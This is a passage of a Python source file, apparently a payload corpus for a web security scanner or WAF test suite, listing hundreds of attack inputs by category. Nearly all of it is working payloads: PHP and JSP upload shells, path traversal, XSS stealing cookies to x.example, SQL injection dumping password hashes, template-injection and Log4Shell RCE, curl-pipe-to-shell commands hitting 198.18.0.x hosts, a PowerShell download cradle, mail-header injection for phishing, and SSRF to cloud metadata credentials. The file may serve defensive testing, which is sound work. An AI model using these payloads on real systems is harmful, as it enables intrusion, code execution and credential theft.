     "MOVE /uploads/shell.txt HTTP/1.1\r\nHost: app.example\r\n"
     f"User-Agent: {_UA}\r\n"
     "Destination: http://app.example/uploads/shell.asp;.txt\r\nOverwrite: T\r\nContent-Length: 0\r\n\r\n"),
    ("xss", "HTML document uploaded as photo.jpg with text/html content type (sniffing)", "raw", "",
     _up("/profile/photo", "photo.jpg", "text/html",
         "<html><body><script>alert(document.domain)</script></body></html>")),
    ("php", "GIF89a header spoof with header-driven command shell in pic.php", "raw", "",
     _up("/magento/admin/catalog/product_gallery/upload", "pic.php", "image/gif",
         "GIF89a\n<?php $c=$_SERVER['HTTP_X_CMD']; echo `$c`; ?>", field="image")),
    ("java", "traversal upload overwriting Spring Boot application.properties with H2 RUNSCRIPT", "raw", "",
     _up("/api/v1/attachments", "../../config/application.properties", "text/plain",
         "spring.datasource.url=jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://198.18.0.6/x.sql'\n")),
    ("ssti", "Rails view template upload show.html.erb with backticks", "raw", "",
     _up("/admin/themes/files", "show.html.erb", "text/plain", "<h1>Hi</h1><%= `id` %>")),
    ("xss", "SVG loading external script and stylesheet", "raw", "",
     _up("/craft/index.php?p=actions/assets/upload", "chart.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
         "<style>@import 'https://x.example/x.css';</style>"
         '<script xlink:href="https://x.example/a.js"/></svg>', field="assets-upload")),
    ("xxe", "SVG external entity pointing at the instance metadata service", "raw", "",
     _up("/profile/avatar", "cloud.svg", "image/svg+xml",
         '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>'
         '<svg xmlns="http://www.w3.org/2000/svg"><text y="20">&m;</text></svg>')),
    # ---- 1c. dangerous file names only (multipart carrier) ----
    ("php", "double extension shell.php.jpg", "multipart", "file", "shell.php.jpg"),
    ("rce", "IIS semicolon trick cmd.asp;.jpg", "multipart", "file", "cmd.asp;.jpg"),
    ("php", "null byte truncation avatar.php%00.png", "multipart", "file", "avatar.php%00.png"),
    ("php", "trailing dot stripped by Windows: report.php.", "multipart", "file", "report.php."),
    ("php", "trailing space stripped by Windows: report.php ", "multipart", "file", "report.php "),
    ("rce", "NTFS alternate data stream shell.aspx::$DATA", "multipart", "file", "shell.aspx::$DATA"),
    ("rce", "NTFS ADS colon creating empty upload.asp", "multipart", "file", "upload.asp:.jpg"),
    ("php", "NTFS ::$DATA suffix on a PHP file", "multipart", "file", "index.php::$DATA"),
    ("ptrav", "URL-encoded traversal in upload name", "multipart", "file", "..%2f..%2f..%2fwww%2fshell.php"),
    ("ptrav", "plain ../ traversal into docroot", "multipart", "file", "../../../../var/www/html/cmd.php"),
    ("ptrav", "non-recursive filter bypass ....//", "multipart", "file", "....//....//....//var/www/html/s.php"),
    ("ptrav", "Windows backslash traversal to win.ini", "multipart", "file", "..\\..\\..\\windows\\win.ini"),
    ("ptrav", "fully encoded traversal to /etc/passwd", "multipart", "file", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("ptrav", "Tomcat ..;/ traversal in upload name", "multipart", "file", "..;/..;/webapps/ROOT/s.jsp"),
    ("php", "mixed-case alternative extension pHp5", "multipart", "file", "img.pHp5"),
    ("php", "phar archive extension", "multipart", "file", "shell.phar"),
    ("java", "JSP with trailing encoded space", "multipart", "file", "cmd.jsp%20"),
    ("java", "JSP with ;.png suffix for path-parameter stripping", "multipart", "file", "status.jsp;.png"),
    ("ssi", "server-parsed .shtml upload name", "multipart", "file", "promo.shtml"),
    ("php", ".htaccess as upload name", "multipart", "file", ".htaccess"),
    ("php", ".user.ini as upload name", "multipart", "file", ".user.ini"),
    ("xss", "SVG onload tag as file name", "multipart", "file", "<svg onload=alert(document.domain)>.png"),
    ("xss", "attribute breakout img onerror in file name", "multipart", "file", "\"><img src=x onerror=alert(1)>.jpg"),
    ("rce", "command substitution in file name", "multipart", "file", "$(curl -s 198.18.0.3|sh).jpg"),
    ("rce", "backtick command in file name", "multipart", "file", "`wget -qO- 198.18.0.3/x|sh`.png"),
    ("sqli", "SQL injection in stored file name", "multipart", "file", "x.png' OR '1'='1"),
    ("sqli", "INSERT breakout in uploads table file name", "multipart", "file", "logo'),((SELECT version()),'x')-- -.png"),
    ("java", "Spring EL in file name rendered by a template", "multipart", "file", "${T(java.lang.Runtime).getRuntime().exec('id')}.pdf"),
    ("java", "Log4Shell lookup in logged file name", "multipart", "file", "${jndi:ldap://198.18.0.6:1389/o}.png"),
    ("ssti", "Jinja2 payload in file name echoed by the confirmation page", "multipart", "file",
     "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}.txt"),
    ("php", "nginx cgi.fix_pathinfo: requesting uploaded GIF as PHP", "path", "",
     "/wp-content/uploads/2024/05/avatar.gif/x.php"),
    ("php", "phar:// wrapper triggering deserialisation of an uploaded polyglot", "query", "path",
     "phar://./uploads/forum/cover.gif/test.txt"),
]

_HBS_RCE = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}'
    '{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
    '{{#with string.split as |codelist|}}{{this.pop}}'
    "{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}"
    "{{/with}}{{/with}}{{/with}}{{/with}}"
)

BLIND_ATTACKS_ZD += [
    # ------------------------------------------------------------------
    # 2. CMS and admin back-ends
    # ------------------------------------------------------------------
    # rich-text editor output
    ("xss", "TinyMCE post content with img onerror cookie exfil", "form", "content",
     "<p>Hello team</p><p><img src=\"x\" onerror=\"fetch('//x.example/c?'+document.cookie)\"></p>"),
    ("xss", "CKEditor link with tab-split javascript: scheme entity", "form", "post_content",
     '<p><a href="jav&#x09;ascript:alert(document.cookie)">Read more</a></p>'),
    ("xss", "legacy IE CSS expression() in editor style attribute", "form", "description",
     '<div style="width: expression(alert(document.cookie));">promo</div>'),
    ("xss", "style background-image url(javascript:) in editor paragraph", "form", "excerpt",
     "<p style=\"background-image: url('javascript:alert(1)')\">Summer</p>"),
    ("xss", "mXSS via noscript title breakout after sanitiser round-trip", "form", "body",
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("xss", "mXSS svg/style namespace confusion", "form", "html",
     '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("xss", "DOMPurify-style mXSS via math/mglyph/style", "form", "content",
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'),
    ("xss", "editor image with src=x:alert(alt) eval(src)", "form", "content",
     "<img src=x:alert(alt) onerror=eval(src) alt=document.cookie>"),
    ("xss", "editor link to base64 data:text/html document", "form", "content",
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+">Brochure</a>'),
    ("xss", "details ontoggle auto-firing in editor HTML", "form", "content",
     "<details open ontoggle=alert(document.domain)><summary>FAQ</summary></details>"),
    ("xss", "object data=javascript: in rich text", "form", "content", '<object data="javascript:alert(1)"></object>'),
    ("xss", "button formaction javascript: in editor form markup", "form", "content",
     "<form><button formaction=javascript:alert(document.cookie)>Subscribe</button></form>"),
    ("xss", "SVG animate onbegin in editor HTML", "form", "content",
     "<p><svg><animate onbegin=alert(1) attributeName=x dur=1s></svg></p>"),
    # Quill and page builders
    ("xss", "Quill delta with javascript: link attribute", "json", "delta", _j(
        {"ops": [{"insert": "Read the terms", "attributes": {"link": "javascript:fetch('//x.example/'+document.cookie)"}},
                 {"insert": "\n"}]})),
    ("xss", "Quill delta image embed breaking out of src attribute", "json", "delta", _j(
        {"ops": [{"insert": {"image": "https://x.example/a.png\" onerror=\"alert(document.domain)"}}, {"insert": "\n"}]})),
    ("xss", "Elementor save_builder actions with heading title markup", "form", "actions", _j(
        {"save_builder": {"action": "save_builder", "data": {"status": "publish", "elements": [
            {"id": "5f2a1c9", "elType": "widget", "widgetType": "heading",
             "settings": {"title": "<img src=x onerror=alert(document.cookie)>", "header_size": "h2"}}]}}})),
    ("xss", "Elementor element tree with HTML widget script", "json", "elements", _j(
        [{"id": "7c1e9a2", "elType": "section", "elements": [{"id": "a3b4c5d", "elType": "column", "elements": [
            {"id": "e6f7a8b", "elType": "widget", "widgetType": "html",
             "settings": {"html": "<script>fetch('https://x.example/k?c='+document.cookie)</script>"}, "elements": []}]}]}])),
    ("xss", "Elementor button widget link url javascript:", "json", "actions", _j(
        {"action": "elementor_ajax", "editor_post_id": "42", "actions": {"save": {"action": "save_builder", "data": {
            "elements": [{"id": "b1", "elType": "widget", "widgetType": "button", "settings": {
                "text": "Buy", "link": {"url": "javascript:alert(document.domain)", "is_external": "", "nofollow": ""}}}]}}}})),
    ("xss", "Gutenberg wp:html block with img onerror", "form", "content",
     "<!-- wp:html --><img src=x onerror=alert(document.domain)><!-- /wp:html -->"),
    ("xss", "Gutenberg block attribute className with \\u0022 breakout", "form", "content",
     '<!-- wp:button {"className":"\\u0022 onmouseover=\\u0022alert(document.cookie)"} -->'
     '<div class="wp-block-button"><a class="wp-block-button__link">Go</a></div><!-- /wp:button -->'),
    ("xss", "shortcode attributes with javascript: URL", "form", "content",
     '[button url="javascript:alert(document.cookie)" text="Download"][/button]'),
    ("xss", "WordPress REST post creation with svg onload in block", "json", "wp/v2/posts", _j(
        {"title": "Spring sale", "status": "publish",
         "content": "<!-- wp:paragraph --><p>Deals<svg/onload=alert(document.domain)></p><!-- /wp:paragraph -->"})),
    # menus, widgets, theme options
    ("xss", "nav menu item URL javascript:", "form", "menu-item-url[123]",
     "javascript:fetch('//x.example/'+document.cookie)"),
    ("xss", "nav menu attr-title attribute breakout", "form", "menu-item-attr-title[123]",
     '" onmouseover="alert(document.domain)" x="'),
    ("xss", "custom HTML widget iframe srcdoc script", "form", "widget-custom_html[2][content]",
     '<iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe>'),
    ("xss", "customizer Additional CSS closing style tag", "form", "custom_css",
     "body{color:#333}</style><script>alert(document.cookie)</script>"),
    ("xss", "theme CSS option importing remote CSS and javascript: URL", "form", "theme_css",
     "@import url(\"//x.example/steal.css\");body{background:url(\"javascript:alert(1)\")}"),
    ("xss", "SEO meta description breaking into meta refresh", "form", "_yoast_wpseo_metadesc",
     '"><meta http-equiv="refresh" content="0;url=javascript:alert(document.domain)">'),
    ("xss", "theme settings header scripts pulling remote JS", "json", "settings", _j(
        {"site_title": "Shop", "header_scripts": "<script src=//x.example/k.js></script>", "footer_text": "(c) 2024"})),
    ("php", "theme option custom PHP writing a persistent shell", "form", "custom_php",
     "<?php file_put_contents('wp-content/uploads/.s.php','<?php @eval($_POST[1]);?>'); ?>"),
    ("php", "site title breaking out of a generated PHP config string", "form", "site_title",
     "My Shop';system($_GET['c']);//"),
    ("php", "theme file editor saving shell_exec into 404.php", "form", "newcontent",
     "<?php echo shell_exec($_GET['e']); ?>"),
    ("php", "create_function body injection in widget formula", "form", "formula",
     "1);}system('id');/*"),
    ("php", "serialized widget options with POP gadget", "form", "widget_options",
     'a:1:{i:0;O:33:"Requests_Utility_FilteredIterator":2:{s:11:"\\0*\\0callback";s:6:"system";'
     's:4:"data";a:1:{i:0;s:2:"id";}}}'),
    ("php", "Drupalgeddon2 render array #post_render exec", "raw", "",
     _req("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
          "application/x-www-form-urlencoded",
          "form_id=user_register_form&_drupal_ajax=1&mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id")),
    ("php", "Craft CMS conditions/render FnStream gadget (CVE-2023-41892)", "raw", "",
     _req("POST", "/index.php", "application/x-www-form-urlencoded",
          "action=conditions/render&test[userCondition]=craft%5celements%5cconditions%5cusers%5cUserCondition"
          "&config=%7b%22name%22%3a%22test%5buserCondition%5d%22%2c%22as%20xyz%22%3a%7b%22class%22%3a"
          "%22%5c%5cGuzzleHttp%5c%5cPsr7%5c%5cFnStream%22%2c%22__construct()%22%3a%5b%5b%5d%5d%2c"
          "%22_fn_close%22%3a%22phpinfo%22%7d%7d")),
    # SQL in admin report filters and sort columns
    ("sqli", "WP REST users orderby CASE boolean oracle on wp_users.user_pass", "query", "orderby",
     "(CASE WHEN (SELECT SUBSTRING(user_pass,1,1) FROM wp_users WHERE ID=1)='$' THEN id ELSE name END)"),
    ("sqli", "admin-ajax list table order with stacked SLEEP", "form", "order", "ASC,(SELECT SLEEP(5))"),
    ("sqli", "report sort column with error-forcing subquery", "query", "sort",
     "created_at,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)"),
    ("sqli", "report date filter with extractvalue error exfil", "query", "date_from",
     "2024-01-01' AND extractvalue(1,concat(0x7e,(SELECT user_pass FROM wp_users LIMIT 1)))-- -"),
    ("sqli", "JSON report filter with UNION over admin_users", "json", "filters", _j(
        {"filters": {"status": "paid') UNION SELECT username,password,3,4 FROM admin_users-- -"}, "group_by": "day"})),
    ("sqli", "PostgreSQL stacked pg_sleep in sort", "query", "sort", "id;SELECT pg_sleep(5)--"),
    ("sqli", "MSSQL WAITFOR DELAY in group_by", "query", "group_by", "name; WAITFOR DELAY '0:0:5'--"),
    ("sqli", "DataTables order column time-based", "query", "order[0][column]", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    ("sqli", "Joomla list[fullordering] updatexml (CVE-2017-8917)", "query", "list[fullordering]",
     "updatexml(0x23,concat(1,(select concat(username,0x3a,password) from jos_users limit 1)),1)"),
    ("sqli", "admin search with UNION into orders grid", "form", "search",
     "x%' UNION ALL SELECT NULL,CONCAT(email,0x3a,password_hash),NULL,NULL FROM customers-- -"),
    ("sqli", "blind XFF logged into admin visitor report", "header:X-Forwarded-For",
     "X-Forwarded-For", "198.18.0.1' AND (SELECT 5151 FROM (SELECT(SLEEP(5)))a)-- -"),
    # LDAP in admin user search
    ("ldapi", "admin user search closing filter to match all uids", "query", "q", "*)(uid=*))(|(uid=*"),
    ("ldapi", "user lookup probing userPassword presence", "query", "username", "admin*)(|(userPassword=*)"),
    ("ldapi", "group filter enumerating admin memberships", "form", "search",
     "*)(|(memberOf=cn=admins,ou=groups,dc=corp,dc=example)"),
    ("ldapi", "raw LDAP filter in directory API JSON", "json", "filter", _j(
        {"filter": "*)(objectClass=*))(&(objectClass=void", "attributes": ["userPassword", "mail"]})),
    ("ldapi", "absolute TRUE filter appended to uid", "query", "user", "jdoe)(&)"),
    ("ldapi", "NUL-terminated filter injection in mail lookup", "form", "mail", "*)(mail=*@x.example))\x00"),
    # SSTI in e-mail and notification templates
    ("ssti", "Twig 1.x registerUndefinedFilterCallback exec in mail template", "form", "template_body",
     '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("curl -s http://198.18.0.3/t | sh")}}'),
    ("ssti", "Twig 3 map('system') in order e-mail", "form", "email_template", "Hi {{ order.name }} {{['cat /etc/passwd']|map('system')|join}}"),
    ("ssti", "Jinja2 self.__init__ globals import os", "json", "body", _j(
        {"name": "password_reset", "subject": "Reset",
         "body": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"})),
    ("ssti", "Jinja2 subclasses walk to catch_warnings", "form", "notification_body",
     "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
     "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("ssti", "Liquid include with traversal to app secrets", "form", "liquid_template",
     "{{ customer.first_name }}{% include '../../../../config/secrets.yml' %}"),
    ("ssti", "Handlebars constructor chain to child_process", "json", "template", _j(
        {"name": "welcome", "subject": "Welcome", "html": _HBS_RCE})),
    ("ssti", "FreeMarker Execute?new() inline", "form", "freemarker", '${"freemarker.template.utility.Execute"?new()("id")}'),
    ("ssti", "Velocity reflective Runtime exec", "form", "velocity_template",
     '#set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'),
    ("ssti", "Razor template Process.Start", "form", "razor_body", '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")'),
    ("ssti", "Thymeleaf preprocessed SpEL expression", "form", "layout", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti", "Smarty {system} tag", "form", "smarty_tpl", "{system('cat /etc/passwd')}"),
    ("ssti", "Mako code block import os", "form", "mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti", "Pug interpolation to child_process", "form", "pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti", "Nunjucks range.constructor sandbox escape", "form", "nunjucks",
     "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti", "Tornado template import os", "form", "tpl", "{% import os %}{{ os.popen('id').read() }}"),
    # SSI / ESI in templates
    ("ssi", "footer HTML with SSI exec", "form", "footer_html", '<!--#exec cmd="cat /etc/passwd" -->'),
    ("ssi", "header HTML with SSI include file traversal", "form", "header_html", '<!--#include file="../../../../etc/shadow" -->'),
    ("ssi", "SSI printenv and echo DOCUMENT_ROOT", "form", "banner_html", '<!--#echo var="DOCUMENT_ROOT" --><!--#printenv -->'),
    ("ssi", "ESI include of attacker fragment in widget HTML", "form", "widget_html", '<esi:include src="http://x.example/esi.html"/>'),
    # CSV / formula injection in exported fields
    ("generic", "company name HYPERLINK exfil on export", "form", "company", '=HYPERLINK("http://x.example/?d="&A1&B1,"Click")'),
    ("generic", "first name @SUM DDE cmd", "form", "first_name", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("generic", "order note +cmd PowerShell download cradle", "json", "note", _j(
        {"note": "+cmd|' /C powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(\"http://198.18.0.5/a\")'!A0"})),
    ("generic", "last name -2+3+cmd DDE", "form", "last_name", "-2+3+cmd|' /C notepad'!'A1'"),
    ("generic", "address IMPORTXML exfil in Google Sheets export", "form", "address", '=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")'),
    ("generic", "city WEBSERVICE exfil in Excel export", "form", "city", '=WEBSERVICE("http://x.example/"&A1&B1)'),
    # misc admin sinks
    ("nosqli", "admin login with $gt operators", "json", "login", _j({"username": {"$gt": ""}, "password": {"$gt": ""}})),
    ("nosqli", "admin user list role filter $ne", "query", "filter[role][$ne]", "guest"),
    ("nosqli", "Mongo $where sleep in admin search", "json", "search", _j({"$where": "this.role=='admin' && sleep(3000)"})),
    ("ssrf", "media import-from-URL pointed at metadata credentials", "form", "url",
     "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("rfi", "CMS template include from remote host", "query", "template", "http://x.example/shell.txt?"),
    ("rfi", "language file include over FTP", "query", "lang", "ftp://198.18.0.4/pub/s.txt"),
    ("ptrav", "theme file editor reading wp-config.php", "query", "file", "../../../wp-config.php"),
    ("ptrav", "admin log viewer with ....// filter bypass", "query", "log", "....//....//....//etc/passwd"),
    ("ptrav", "RevSlider show_image arbitrary file read", "path", "",
     "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"),
    ("rce", "admin diagnostics ping host with command chaining", "form", "host", "198.18.0.1; cat /etc/passwd"),
    ("rce", "backup settings mysqldump path with injected command", "form", "mysqldump_path",
     "/usr/bin/mysqldump --result-file=/tmp/d.sql;curl -s http://198.18.0.3/b|sh;"),
    ("rce", "ImageMagick binary path setting with shell metacharacters", "form", "imagemagick_path",
     "/usr/bin/convert' ; curl -s 198.18.0.3/x | sh #"),
    ("java", "OGNL expression in admin site name (Confluence style)", "form", "site_name",
     '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8"))}'),
    ("java", "Log4Shell in User-Agent logged by the admin audit trail", "header:User-Agent", "User-Agent",
     "Mozilla/5.0 ${jndi:ldap://198.18.0.6:1389/Exploit}"),
    ("xss", "blind XSS in User-Agent rendered by admin analytics", "header:User-Agent", "User-Agent",
     "Mozilla/5.0 <script src=https://x.example/b.js></script>"),
    ("xss", "blind XSS in Referer shown in admin traffic report", "header:Referer", "Referer",
     'https://x.example/"><img src=x onerror=import("//x.example/r.js")>'),
    ("sqli", "admin filter preference cookie with UNION", "cookie", "admin_report_filter",
     "status=1 UNION SELECT user_login,user_pass FROM wp_users-- -"),
    ("ssrf", "XML-RPC pingback.ping with metadata source URL", "body:text/xml", "xmlrpc",
     '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params>'
     "<param><value><string>http://169.254.169.254/latest/meta-data/</string></value></param>"
     "<param><value><string>https://app.example/?p=1</string></value></param></params></methodCall>"),
    ("xxe", "admin XML content import with file entity", "body:application/xml", "import",
     '<?xml version="1.0"?><!DOCTYPE items [<!ENTITY p SYSTEM "file:///etc/passwd">]><items><item><title>&p;</title></item></items>'),
    ("rce", "PyYAML unsafe load of settings import", "body:application/x-yaml", "settings/import",
     '!!python/object/apply:os.system ["curl -s http://198.18.0.3/y | sh"]'),
    ("java", "SnakeYAML ScriptEngineManager URLClassLoader gadget", "body:application/x-yaml", "config",
     '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/y.jar"]]]]'),
]

_CONTACT_BODY = (
    "name=Jane+Doe%0D%0ABcc%3A+list1%40x.example%2Clist2%40x.example"
    "&email=jane%40x.example%0D%0ACc%3A+harvest%40x.example"
    "&subject=Quote%0D%0AContent-Type%3A+text%2Fhtml%0D%0A%0D%0A%3Ca+href%3Dhttps%3A%2F%2Fx.example%3EVerify%3C%2Fa%3E"
    "&message=Hello"
)

BLIND_ATTACKS_ZD += [
    # ------------------------------------------------------------------
    # 3. Mail and notifications
    # ------------------------------------------------------------------
    ("mail_injection", "contact form name with CRLF Bcc header", "form", "name",
     "John Smith\r\nBcc: victim1@x.example,victim2@x.example"),
    ("mail_injection", "contact e-mail with LF Cc header", "form", "email", "attacker@x.example\nCc: list@x.example"),
    ("mail_injection", "subject injecting Content-Type and HTML body", "form", "subject",
     "Hello\r\nContent-Type: text/html\r\n\r\n<a href=\"https://x.example/login\">Verify account</a>"),
    ("mail_injection", "PHPMailer sendmail argument injection (CVE-2016-10033)", "form", "email",
     '"attacker\\" -oQ/tmp/ -X/var/www/html/wp-content/uploads/log.php some"@x.example'),
    ("mail_injection", "sender field passing -X log file option to sendmail", "form", "from",
     "nobody@x.example -OQueueDirectory=/tmp -X/var/www/html/rce.php"),
    ("php", "contact message carrying PHP for the sendmail -X log shell", "form", "message",
     "<?php system($_GET['c']); ?>"),
    ("mail_injection", "message body terminating DATA and issuing SMTP commands", "form", "message",
     "Hello\r\n.\r\nMAIL FROM:<ceo@app.example>\r\nRCPT TO:<victim@x.example>\r\nDATA\r\n"
     "From: ceo@app.example\r\nSubject: Urgent wire\r\n\r\nPlease pay the attached invoice.\r\n.\r\nQUIT\r\n"),
    ("mail_injection", "SMTP envelope injection in newsletter address", "form", "newsletter_email",
     "a@x.example>\r\nRCPT TO:<victim@x.example"),
    ("mail_injection", "webmail IMAP command injection in mailbox name", "query", "mailbox",
     'INBOX"\r\nA002 FETCH 1:* (BODY[HEADER.FIELDS (FROM SUBJECT)])\r\nA003 SELECT "INBOX'),
    ("mail_injection", "JSON newsletter signup with header injection", "json", "subscribe", _j(
        {"email": "reader@x.example\nBcc: spam1@x.example,spam2@x.example", "list": "weekly"})),
    ("mail_injection", "reply-to with Bcc and spoofed X-Mailer", "form", "reply_to",
     "me@x.example\nBcc: all@x.example\nX-Mailer: Outlook"),
    ("mail_injection", "subject smuggling a MIME boundary and HTML part", "form", "subject",
     'Order\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary="zz"\n\n--zz\n'
     "Content-Type: text/html\n\n<script>alert(1)</script>\n--zz--"),
    ("mail_injection", "name field adding To and Subject headers", "form", "name",
     "Bob\r\nTo: victim@x.example\r\nSubject: Account verification required"),
    ("mail_injection", "recipient selector with extra Bcc", "form", "recipient",
     "support@app.example\r\nBcc: harvest@x.example"),
    ("mail_injection", "whole contact form request with CRLF in three fields", "raw", "",
     _req("POST", "/contact", "application/x-www-form-urlencoded", _CONTACT_BODY,
          extra="Origin: https://app.example\r\nReferer: https://app.example/contact\r\n")),
    ("mail_injection", "share-by-email JSON with CRLF in sender name", "json", "share", _j(
        {"from_name": "Alice\r\nBcc: list@x.example", "to": "friend@x.example", "url": "https://app.example/p/1"})),
    ("crlf", "post-submit redirect with Set-Cookie injection", "query", "redirect", "/thanks\r\nSet-Cookie: session=attacker123; Path=/"),
    ("crlf", "return_to splitting into a second Location", "query", "return_to", "/contact\r\nLocation: https://x.example/"),
    ("crlf", "language parameter HTTP response splitting", "query", "lang",
     "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    # template injection in subject lines / notification text
    ("ssti", "Jinja2 subject reaching os via request.application", "form", "subject",
     "Welcome {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti", "Jinja2 lipsum globals in notification subject", "form", "subject",
     "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("ssti", "Twig subject dumping server vars", "form", "subject", "Order {{app.request.server.all|join(',')}}"),
    ("ssti", "FreeMarker ObjectConstructor ProcessBuilder in subject", "form", "subject",
     '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}'),
    ("ssti", "Spring message SpEL in notification subject", "form", "subject",
     "#{T(java.lang.Runtime).getRuntime().exec('nslookup ssti.x.example')}"),
    ("ssti", "EJS unescaped output in SMS/e-mail text", "form", "sms_text",
     "<%- global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti", "Velocity $class.inspect Runtime in e-mail subject", "form", "subject",
     '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")'),
    ("ssti", "Django template leaking SECRET_KEY", "form", "subject", "Hello {{ settings.SECRET_KEY }}"),
    ("ssti", "Razor reading web.config in e-mail template", "form", "subject",
     '@System.IO.File.ReadAllText("C:\\\\inetpub\\\\wwwroot\\\\web.config")'),
    ("ssti", "Smarty writeFile creating PHP shell via subject", "form", "subject",
     "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"),
    ("ssi", "contact message with SSI exec rendered in HTML notification", "form", "message",
     '<!--#exec cmd="wget http://198.18.0.3/m -O /tmp/m" -->'),
    ("xss", "quoted local part with script in e-mail shown in admin inbox", "form", "email", '"<script>alert(document.domain)</script>"@x.example'),
    ("sqli", "quoted local part carrying SQL in newsletter signup", "form", "email", "\"'OR 1=1-- \"@x.example"),
    # SSRF through webhook / notification URL settings
    ("ssrf", "webhook URL to AWS metadata", "json", "webhooks", _j(
        {"url": "http://169.254.169.254/latest/meta-data/", "events": ["order.created"], "active": True})),
    ("ssrf", "webhook decimal-encoded metadata IP", "json", "webhooks", _j(
        {"url": "http://2852039166/latest/meta-data/iam/security-credentials/", "events": ["user.signup"]})),
    ("ssrf", "notification URL hex-encoded metadata IP", "form", "notify_url", "http://0xa9fea9fe/latest/user-data"),
    ("ssrf", "callback URL octal-encoded metadata IP", "form", "callback_url", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("ssrf", "webhook two-part dotted metadata IP", "json", "integration", _j(
        {"type": "slack", "webhook_url": "http://169.254.43518/latest/meta-data/hostname"})),
    ("ssrf", "IPv4-mapped IPv6 hex form of metadata IP", "form", "webhook_url", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ssrf", "IPv4-mapped IPv6 dotted form with long zeros", "query", "callback_url", "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/api/token"),
    ("ssrf", "DNS rebinding host alternating public and internal", "json", "webhooks", _j(
        {"url": "http://c6120005.a9fea9fe.rebind.x.example/latest/meta-data/", "secret": "s3"})),
    ("ssrf", "open redirect on attacker host bouncing to metadata", "form", "webhook_url",
     "https://x.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("ssrf", "GCP metadata token endpoint as notification URL", "form", "notify_url",
     "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf", "gopher webhook speaking Redis protocol to internal cache", "json", "webhooks", _j(
        {"url": "gopher://198.18.0.12:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1"
                "%0D%0A%2428%0D%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20id%0A%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A"})),
    ("ssrf", "dict:// webhook probing internal memcached", "form", "webhook_url", "dict://198.18.0.12:11211/stats"),
    ("ssrf", "file:// scheme as notification endpoint", "form", "notify_url", "file:///etc/passwd"),
    ("ssrf", "webhook to internal Docker API", "json", "webhooks", _j(
        {"url": "http://198.18.0.15:2375/containers/json?all=1", "events": ["deploy"]})),
    ("ssrf", "userinfo confusion: allowed host before @ metadata", "form", "webhook_url", "http://x.example@169.254.169.254/latest/meta-data/"),
    ("ssrf", "fragment confusion: metadata host with #@ allowed host", "form", "webhook_url", "http://169.254.169.254#@x.example/"),
    ("ssrf", "backslash parser differential to metadata", "form", "callback_url", "http://x.example\\@169.254.169.254/latest/meta-data/"),
    ("ssrf", "Azure IMDS managed identity token as webhook", "json", "webhooks", _j(
        {"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
         "headers": {"Metadata": "true"}})),
